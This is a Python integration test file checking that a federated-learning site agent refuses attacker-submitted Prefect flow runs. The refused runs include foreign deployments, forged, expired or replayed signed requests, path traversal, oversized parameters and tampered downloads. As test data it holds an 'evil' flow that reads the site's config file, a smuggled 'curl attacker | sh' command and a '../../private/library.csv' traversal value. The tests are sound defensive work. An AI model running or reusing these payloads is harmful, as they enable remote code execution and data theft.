"""Attacks on a partner's site agent through a real Prefect server and a real MLflow store.

The adversary holds the shared Prefect credential (every partner and the coordinator do): it can create deployments
on the partner's pool and flow runs with any parameters. Each attack below must leave the site untouched: the flow
run is refused with a one-line reason, the refusal is in the site's audit log, the attacker's code never runs, and
the partner's library is never opened (an audit hook watches every ``open`` of the site's private folder).

Against the plain Prefect process worker that ``molfed site-worker`` used to start, the foreign deployment ran as
the partner's user (checked once by hand: its marker file appeared and the library was copied).
"""

from __future__ import annotations

import os
import sys
from pathlib import Path

import pytest
from prefect.client.orchestration import get_client

from flows.site_agent import SiteAgent
from molfed.config import SiteConfig, parse_config
from molfed.data.demo import write_demo_partners
from molfed.federated.signing import generate_keypair, load_private_key
from molfed.site.requests import RequestSigner, json_digest
from molfed.tracking import Tracker

pytestmark = [pytest.mark.integration]

BIN = Path(sys.executable).parent
AUTH = "molfed:shared-prefect-secret"
FEDERATION = "fed-a"
_WATCHED: list[str] = []
OPENED: list[str] = []


def _audit(event: str, args: tuple) -> None:
    if event == "open" and _WATCHED and isinstance(args[0], str | bytes | os.PathLike):
        path = os.fsdecode(args[0])
        if any(path.startswith(w) for w in _WATCHED):
            OPENED.append(path)


sys.addaudithook(_audit)


@pytest.fixture(scope="module")
def site(tmp_path_factory, prefect_api):
    """Partner beta's site (library in private/, trusting one coordinator key), the coordinator's signer, the
    federation run in a real MLflow store, the partner deployments, and beta's agent (in this process)."""
    root = tmp_path_factory.mktemp("site-beta")
    libraries = write_demo_partners(root / "scratch", seed=0)
    (root / "private").mkdir()
    library = root / "private" / "library.csv"
    library.write_bytes(Path(libraries["beta"]).read_bytes())
    coordinator_pem, coordinator_public = generate_keypair()
    (root / "coordinator.pem").write_text(coordinator_pem)
    site = SiteConfig.model_validate(
        {
            "name": "beta",
            "path": str(library),
            "workspace": str(root / "workspace"),
            "trusted_coordinators": {"consortium": coordinator_public},
            "policy": {"federations": [FEDERATION], "tasks": ["expt"], "max_rounds": 50, "max_request_bytes": 50_000},
        }
    )
    uri = f"sqlite:///{root / 'mlflow.db'}"
    os.environ["MLFLOW_TRACKING_URI"] = uri  # the agent's MLflow (its runner reads it on first use)
    config = parse_config(
        {
            "name": FEDERATION,
            "mode": "sites",
            "tasks": [{"name": "expt"}],
            "partners": [{"name": "beta"}, {"name": "gamma"}],
            "baselines": {"pooled": False},
            "federation": {"rounds": 3},
            "integrity": {"coordinator_key": str(root / "coordinator.pem")},
        }
    )
    tracker = Tracker(uri, "security")
    run_id = tracker.start_run(FEDERATION)
    site_run = tracker.start_run("site-beta", parent_run_id=run_id)
    published = config.model_dump(mode="json")
    tracker.log_json(run_id, published, "federation/config.json")
    from flows.deploy import deploy

    deploy(config)
    agent = SiteAgent(site)
    signer = RequestSigner(load_private_key(coordinator_pem.encode()), FEDERATION)
    _WATCHED[:] = [str(root / "private")]
    try:
        yield {
            "root": root,
            "agent": agent,
            "signer": signer,
            "run_id": run_id,
            "site_run": site_run,
            "tracker": tracker,
            "config": published,
            "bindings": {"config": json_digest(published)},
        }
    finally:
        _WATCHED.clear()
        os.environ.pop("MLFLOW_TRACKING_URI", None)


def _job(site: dict, action: str = "prepare", **extra) -> dict:
    return {
        "partner": "beta",
        "action": action,
        "parent_run_id": site["run_id"],
        "site_run_id": site["site_run"],
        "server_round": 0,
        **extra,
    }


def _submit(site: dict, parameters: dict, deployment: str = "partner-job/partner-beta") -> tuple[str, str, str]:
    """Create a flow run as the attacker, let the agent poll once; return (decision in the audit log, the flow run's
    state type, its message)."""
    from prefect.deployments import run_deployment

    run = run_deployment(deployment, parameters=parameters, timeout=0)
    before = len(site["agent"].audit.entries())
    with get_client(sync_client=True) as client:
        assert site["agent"].poll_once(client) == 1
        state = client.read_flow_run(run.id).state
    entries = [e for e in site["agent"].audit.entries()[before:] if e["flow_run"].startswith(str(run.id))]
    return entries[-1]["decision"], state.type.value, state.message or ""


def _refused(site: dict, parameters: dict, reason: str, deployment: str = "partner-job/partner-beta") -> None:
    OPENED.clear()
    site["agent"].runner._data.clear()  # cold: an accepted job would have to open the library
    decision, state, message = _submit(site, parameters, deployment)
    assert (decision, state) == ("refused", "FAILED"), (decision, state, message)
    assert message.startswith(f"refused by site beta: {reason}"), message
    assert "\n" not in message
    assert OPENED == []  # the partner's library was not opened
    entry = site["agent"].audit.entries()[-1]
    assert entry["decision"] == "refused" and entry["reason"].startswith(reason)


EVIL = """
import os
from pathlib import Path
from prefect import flow

@flow
def evil(**kwargs):
    Path({marker!r}).write_text("ran")
    site = os.environ.get("MOLFED_SITE_CONFIG")
    if site:
        Path({marker!r} + ".site").write_text(Path(site).read_text())
"""


def test_a_foreign_deployment_on_the_partners_pool_is_refused_and_never_runs(site, tmp_path):
    from prefect import flow

    marker = tmp_path / "attacker-code-ran"
    (tmp_path / "evil.py").write_text(EVIL.format(marker=str(marker)))
    flow.from_source(source=str(tmp_path), entrypoint="evil.py:evil").deploy(
        name="evil", work_pool_name="partner-beta", print_next_steps=False
    )
    _refused(site, {}, "malformed request", deployment="evil/evil")
    # the same foreign deployment with a job-shaped, unsigned parameter
    _refused(site, {"job": _job(site)}, "unsigned request", deployment="evil/evil")
    assert not marker.exists()
    audit = site["agent"].audit.entries()[-1]
    assert audit["deployment"] and audit["flow_run"]  # who asked, what, when
    assert audit["time"]


def test_forged_requests_are_refused(site):
    attacker = RequestSigner(load_private_key(generate_keypair()[0].encode()), FEDERATION)
    forged = attacker.sign(_job(site), bindings=site["bindings"], lifetime_s=600)
    _refused(site, {"job": forged}, "untrusted key")
    genuine = site["signer"].sign(_job(site), bindings=site["bindings"], lifetime_s=600)
    genuine["server_round"] = 7  # altered after signing
    _refused(site, {"job": genuine}, "forged request")


def test_expired_and_replayed_requests_are_refused(site):
    expired = site["signer"].sign(_job(site), bindings=site["bindings"], lifetime_s=-1)
    _refused(site, {"job": expired}, "expired request")
    too_long = site["signer"].sign(_job(site), bindings=site["bindings"], lifetime_s=10 * 86_400)
    _refused(site, {"job": too_long}, "expired request")
    job = site["signer"].sign(_job(site), bindings=site["bindings"], lifetime_s=600)
    decision, state, message = _submit(site, {"job": job})
    assert (decision, state) == ("completed", "COMPLETED"), message
    _refused(site, {"job": job}, "replayed request")  # the same signed request through a new flow run


def test_extra_fields_paths_and_huge_parameters_are_refused_even_when_signed(site):
    signer, bindings = site["signer"], site["bindings"]
    job = signer.sign(_job(site), bindings=bindings, lifetime_s=600)
    _refused(site, {"job": job, "command": "curl attacker | sh"}, "malformed request")
    path_id = signer.sign(
        {**_job(site), "parent_run_id": "../../private/library.csv"}, bindings=bindings, lifetime_s=60
    )
    _refused(site, {"job": path_id}, "malformed request: parent_run_id")
    extra = signer.sign(_job(site, entrypoint="evil.py:evil"), bindings=bindings, lifetime_s=600)
    _refused(site, {"job": extra}, "malformed request: entrypoint")
    huge = signer.sign(_job(site, "finish", parity_edges=[0.5] * 12_000), bindings=bindings, lifetime_s=600)
    _refused(site, {"job": huge}, "policy: request of")
    other = signer.sign({**_job(site), "partner": "gamma"}, bindings=bindings, lifetime_s=600)
    _refused(site, {"job": other}, "wrong site")


def test_a_download_other_than_the_signed_one_is_refused_before_the_library_is_read(site):
    """The coordinator's store was changed after signing (or by a writer of the store): the config the job fetches
    has another digest than the one bound into the request."""
    tampered = {**site["config"], "federation": {**site["config"]["federation"], "rounds": 40}}
    job = site["signer"].sign(_job(site), bindings={"config": json_digest(tampered)}, lifetime_s=600)
    _refused(site, {"job": job}, "tampered download: 'config'")


def test_a_federation_outside_the_sites_policy_is_refused_before_the_library_is_read(site):
    """Signed and untampered, but the federation's real settings break the site's policy (60 rounds > 50)."""
    tracker = site["tracker"]
    config = {**site["config"], "federation": {**site["config"]["federation"], "rounds": 60}}
    run_id = tracker.start_run("fed-a-long")
    site_run = tracker.start_run("site-beta", parent_run_id=run_id)
    tracker.log_json(run_id, config, "federation/config.json")
    job = {**_job(site), "parent_run_id": run_id, "site_run_id": site_run}
    signed = site["signer"].sign(job, bindings={"config": json_digest(config)}, lifetime_s=600)
    _refused(site, {"job": signed}, "policy: 60 rounds, at most 50 allowed")


def test_an_honest_request_runs_and_reads_the_library(site):
    """The control: the same checks let a genuine request through, and the audit hook does see the library opened
    (so the attacks' empty ``OPENED`` means something)."""
    OPENED.clear()
    site["agent"].runner._data.clear()
    job = site["signer"].sign(_job(site), bindings=site["bindings"], lifetime_s=600)
    decision, state, message = _submit(site, {"job": job})
    assert (decision, state) == ("completed", "COMPLETED"), message
    assert OPENED  # the library was read
    reply = site["tracker"].download_json(site["site_run"], "replies/prepare-0000.json")
    assert reply["summary"]["name"] == "beta" and reply["summary"]["n_train"] > 0
